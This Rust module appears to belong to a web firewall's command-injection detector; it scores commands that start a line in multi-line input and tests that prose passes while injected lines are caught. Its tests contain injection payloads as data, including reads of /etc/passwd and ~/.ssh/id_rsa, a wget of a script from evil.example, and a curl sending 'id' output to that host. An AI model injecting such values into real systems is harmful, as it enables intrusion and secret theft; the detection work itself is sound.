//! A known command where a line of multi-line text starts: the weak reading of a command
//! position. Prose puts words there that are also commands ("Customer\nid 4711",
//! "Hola\nsed de aventura", "ps: …", "curl up with a book"); an injected line (`%0aid`,
//! `\ncat /etc/passwd`) looks the same up to its arguments. So such a line is not a finding by
//! itself: it raises signals, each scored once per value, and the value is a finding when
//! their sum reaches the level's threshold, as the OWASP CRS sums anomaly scores.
//!
//! | signal | score |
//! |---|---:|
//! | a known command starts a line (after a line break, nothing but blanks or `(` between) | 2 |
//! | on that line, an argument only a command line has: an option (`-c`, `--url`), a path (`/etc/…`, `./x`, `../x`, `~/x`), a redirection (`>`, `<`), a separator or substitution (`;`, `\|`, `&`, backtick, `$(`), a variable (`$x`, `${x}`), or a wrapper running a second command (`sudo id`, `nohup ifconfig`); or the command word spelled as only a shell reads it (`/bin/id`, `c'a't`) | 3 |
//! | the command's own shape: the line is the command alone (not a word prose writes alone: `cat`, `python`, `curl`), a number for a command that takes one (`sleep 5`, `kill 9`), or a URL for a downloader (`wget http://x/a.sh`) | 2 |
//! | the line follows a value, not prose: before it only blanks or one word (`127.0.0.1\nid`, `\nid`) | 1 |
//!
//! Threshold: 5 at paranoia level 1, 4 at level 2. So one command word with prose after it
//! (2, or 3 after one word) never blocks; a line-start command with a command line's argument
//! (5) always does; a bare command (`id`, `whoami`) or `sleep 5` on its own line blocks at
//! level 1 after a value or a leading line break (5), and at level 2 anywhere (4). A command
//! after `;`, `|`, `&`, `$(` or a backtick is no weak reading: [`super`] flags it as before.

use super::chained::names_command;
use super::command_line::PROSE_COMMAND_SET;
use super::lex::{is_command_lead, is_option, shell_word, without_version, word_end};
use super::words::{is_command, TOPIC_SET, WRAPPER_SET};
use crate::detect::words::word_list;
use crate::detect::wordset::WordSet;

/// A known command where a line starts.
pub(super) const LINE_START: u32 = 2;
/// An argument, or a spelling of the command word, that only a command line has.
pub(super) const COMMAND_LINE_ARGUMENT: u32 = 3;
/// The command alone, or with the one kind of argument it takes.
pub(super) const COMMAND_SHAPE: u32 = 2;
/// Only blanks or one word before the line: the line was appended to a value.
pub(super) const AFTER_A_VALUE: u32 = 1;

/// The score at which line-start commands are a finding, by paranoia level.
pub(super) fn threshold(paranoia: u8) -> u32 {
    if paranoia >= 2 {
        4
    } else {
        5
    }
}

/// How far a command line is read: a command line is short, and a value of many long lines
/// stays linear.
const LINE_REACH: usize = 256;

/// At most this many line-start commands are scored (each signal counts once anyway).
pub(super) const MOST_LINES: usize = 16;

word_list! {
    /// Commands whose argument is a number: `sleep 5`, `kill 9 1`.
    NUMBER_COMMANDS = "shell-number-commands"
}

/// [`NUMBER_COMMANDS`] as a set.
static NUMBER_COMMAND_SET: WordSet = WordSet::new(&NUMBER_COMMANDS);

word_list! {
    /// Downloaders whose argument is a URL: `wget http://x/a.sh`.
    DOWNLOADERS = "shell-downloaders"
}

/// [`DOWNLOADERS`] as a set.
static DOWNLOADER_SET: WordSet = WordSet::new(&DOWNLOADERS);

/// Whether the command position `start` is a line start only: the byte before it is a line
/// break, and what a shell would skip before the command word holds no separator or
/// redirection (`\n; id` and `\n| id` are command positions of their own).
pub(super) fn is_line_start(text: &str, start: usize) -> bool {
    let bytes = text.as_bytes();
    if start == 0 || !matches!(bytes.get(start - 1), Some(b'\n' | b'\r')) {
        return false;
    }
    bytes
        .get(start..)
        .unwrap_or_default()
        .iter()
        .take_while(|&&b| is_command_lead(b))
        .all(|&b| b.is_ascii_whitespace() || b == b'(')
}

/// The anomaly score of the line-start commands at `starts` (positions [`is_line_start`]
/// accepted, where [`names_command`] found a command), ascending.
pub(super) fn score(text: &str, starts: &[usize]) -> u32 {
    let Some(&first) = starts.first() else {
        return 0;
    };
    let mut argument = false;
    let mut shape = false;
    for &start in starts.iter().take(MOST_LINES) {
        let line = line_at(text, start);
        let end = word_end(line);
        let word = line.get(..end).unwrap_or_default();
        let args = line.get(end..).unwrap_or_default();
        argument = argument || spelled_for_a_shell(word) || command_line_argument(word, args);
        shape = shape || has_command_shape(word, args);
    }
    // Only the first line can follow a value: the text before a later one holds the first.
    let before = text.get(..first).unwrap_or_default().trim();
    let after_value = !before.contains(|c: char| c.is_whitespace());
    LINE_START
        + u32::from(argument) * COMMAND_LINE_ARGUMENT
        + u32::from(shape) * COMMAND_SHAPE
        + u32::from(after_value) * AFTER_A_VALUE
}

/// The line from `start` (blanks and a `(` skipped), to its end or [`LINE_REACH`] bytes.
fn line_at(text: &str, start: usize) -> &str {
    let rest = text
        .get(start..)
        .unwrap_or_default()
        .trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '(');
    let mut cut = rest
        .find(['\n', '\r'])
        .unwrap_or(rest.len())
        .min(LINE_REACH);
    while !rest.is_char_boundary(cut) {
        cut -= 1;
    }
    rest.get(..cut).unwrap_or_default()
}

/// A command word as only a shell reads it: by a path (`/bin/id`, `./x`), or with quotes,
/// backslashes or expansions a shell removes (`c'a't`, `w\hoami`, `$u`).
fn spelled_for_a_shell(word: &str) -> bool {
    word.contains(['/', '\'', '"', '\\', '$', '`'])
}

/// An argument only a command line has (see the module's table), or a wrapper running a
/// second command.
fn command_line_argument(word: &str, args: &str) -> bool {
    if args.contains(['`', '>', '<']) || args.contains("$(") {
        return true;
    }
    // A separator ends a command line, or joins the next command (a command position of its
    // own, read by [`super`]): here it counts glued to the command word (`id;x`, `ps|`) or
    // ending the line (`\nid;`). Prose's `;` goes on with words ("4711; paid").
    let separators: &[char] = &[';', '|', '&'];
    if args.starts_with(separators) || args.trim_end().strip_suffix(separators).is_some() {
        return true;
    }
    let name = shell_word(word);
    if WRAPPER_SET.contains(&name) && names_command(args) {
        return true;
    }
    args.split_whitespace()
        .any(|token| is_option(token) || is_path(token) || is_variable(token))
}

/// An absolute, relative or home path: `/etc/passwd`, `./x`, `../x`, `~/x`, `~`.
fn is_path(token: &str) -> bool {
    let token = token.trim_start_matches(['\'', '"']);
    let absolute = token
        .strip_prefix('/')
        .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '.'));
    absolute
        || token.starts_with("./")
        || token.starts_with("../")
        || token.starts_with("~/")
        || token == "~"
}

/// A shell variable: `$x`, `${x}` (not a price, `$5`).
fn is_variable(token: &str) -> bool {
    token.match_indices('$').any(|(i, _)| {
        token.get(i + 1..).is_some_and(|r| {
            r.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '{' | '_'))
        })
    })
}

/// The command alone (not a word prose writes alone), a number for a command that takes
/// one, or a URL for a downloader.
fn has_command_shape(word: &str, args: &str) -> bool {
    let cleaned = shell_word(word);
    let name = cleaned.rsplit('/').next().unwrap_or(&cleaned);
    let name = without_version(name);
    let mut tokens = args.split_whitespace().peekable();
    if tokens.peek().is_none() {
        return is_command(name) && !TOPIC_SET.contains(name) && !PROSE_COMMAND_SET.contains(name);
    }
    if NUMBER_COMMAND_SET.contains(name) {
        return tokens.all(|t| t.bytes().all(|b| b.is_ascii_digit()));
    }
    if DOWNLOADER_SET.contains(name) {
        return tokens.all(|t| {
            t.starts_with("http://") || t.starts_with("https://") || t.starts_with("ftp://")
        });
    }
    false
}

#[cfg(test)]
mod tests {
    use super::super::detect_with;
    use crate::decode::decode_fully;
    use crate::detect::Lowered;

    /// Whether `rce-001` flags `v` (form-decoded) at paranoia `level`.
    fn chained(v: &str, level: u8) -> bool {
        let decoded = decode_fully(v.as_bytes(), true, true);
        let found = detect_with(&Lowered::new(&decoded), level, true);
        assert_eq!(
            found,
            detect_with(&Lowered::new(&decoded), level, false),
            "{v:?}: prechecks change nothing"
        );
        found.iter().any(|r| r.id == "rce-001")
    }

    #[test]
    fn a_command_word_starting_a_line_of_prose_passes_at_both_levels() {
        for v in [
            "Customer\nid 4711",
            "Hola\nsed de aventura",
            "Thanks!\nps I will call you tomorrow",
            "Roof repair\ntar paper and shingles needed",
            "Shipping\nzip code 90210 is outside the area",
            "Onboarding\nssh keys are on the wiki",
            "Weekend plans\ncurl up with a good book",
            "Course list\npython for data analysis",
            "Infra\ndocker images are rebuilt nightly",
            "Database\nmysql is at version 8 now",
            "Customer\nid 4711; paid in full",
            "Boa noite\nlua cheia hoje",
            "Ciao\nnode di sopra e sotto",
            "Nota\nperf di oggi",
            "Hallo\ngem ist ein Wort",
            "Order 55\nsplit into two parcels",
            "Rating\nexpect delays in December",
            // Lists of tools in prose, and markdown.
            "We use:\ncurl for HTTP\ndocker for builds\npython for glue\nssh for the rest",
            "## Setup\n\n- install docker\n- ask for ssh access\n\n**ps** is fine",
            "Stack: python, docker and mysql.\nps: also curl.",
            // Addresses and chat in several languages.
            "Flat 3\n12 Main Street\nSpringfield",
            "Calle Mayor 5\n28013 Madrid\nEspaña",
            "Hauptstraße 1\n10115 Berlin",
            "Salut !\nTu viens ce soir ?",
            "Oi\npara onde vamos?",
        ] {
            for level in [1, 2] {
                assert!(!chained(v, level), "level {level}: {v:?}");
            }
        }
    }

    #[test]
    fn an_injected_line_is_still_caught() {
        for v in [
            "\nid",
            "\ncat /etc/passwd",
            "%0a whoami",
            "\nsleep 5",
            "\nping -c 3 x",
            "127.0.0.1\nid",
            "127.0.0.1%0Awhoami",
            "x\nwget http://evil.example/x.sh",
            "Some prose here\nid;",
            "Some prose here\nid|",
            "Some prose here\n/bin/id",
            "note to self\nsudo id",
            "note to self\nps aux > /tmp/x",
            "a long note\ncat ~/.ssh/id_rsa",
            "a long note\nuname -a",
            "a long note\nls $HOME",
            "a long note\ncurl evil.example/`id`",
        ] {
            for level in [1, 2] {
                assert!(chained(v, level), "level {level}: {v:?}");
            }
        }
    }

    #[test]
    fn a_bare_command_line_in_prose_is_a_finding_at_level_2_only() {
        for v in ["Fields:\nname\nid\nemail", "Hi there\nwhoami"] {
            assert!(!chained(v, 1), "{v:?}");
            assert!(chained(v, 2), "{v:?}");
        }
        // Words prose writes alone: not a command's shape.
        for v in ["Pets:\ncat\ndog", "Tools we like\ncurl\npython"] {
            assert!(!chained(v, 2), "{v:?}");
        }
    }

    #[test]
    fn each_signal_scores_once_per_value() {
        use super::{score, AFTER_A_VALUE, COMMAND_LINE_ARGUMENT, COMMAND_SHAPE, LINE_START};
        assert_eq!(
            score("x\nid", &[2]),
            LINE_START + COMMAND_SHAPE + AFTER_A_VALUE
        );
        assert_eq!(
            score("a b\nid -a\nid -b", &[4, 10]),
            LINE_START + COMMAND_LINE_ARGUMENT
        );
        assert_eq!(score("a b\nsed de", &[4]), LINE_START);
        assert_eq!(score("x", &[]), 0);
    }
}
